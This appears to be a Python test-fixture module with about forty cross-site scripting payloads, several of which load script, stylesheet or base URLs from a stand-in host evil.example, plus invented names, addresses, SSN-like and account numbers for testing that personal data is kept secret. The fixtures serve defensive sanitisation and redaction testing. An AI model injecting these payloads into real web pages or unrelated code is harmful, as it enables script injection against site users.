"""Texts that would run in a careless page, and invented persons to be kept secret."""

# Each calls alert(), which opens a dialog, or asks for something of another machine.
XSS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/x.png>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover=alert(1) x="',
    "' onfocus=alert(1) autofocus x='",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "</svg><script>alert(1)</script>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<body onload=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<base href="//evil.example/">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "{{ ''.__class__ }}{% raw %}<script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;alert(1)",
    "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>$\\frac{1$",
)

NAMES = ("Ada Quillfeather", "Bartholomew Zanzinger", "Cosima Underhill-Voss")
ADDRESSES = ("7742 Larkspur Hollow Rd", "Apt 19C Merriweather", "Pinckneyville IL 62274")
SSNS = ("912-45-6781", "987654329", "923 55 1207")
ACCOUNTS = ("4417123456789113", "000123987654", "AC-77281 9930 4412", "8841-2207")
PERSONAL = (*NAMES, *ADDRESSES, *SSNS, *ACCOUNTS)
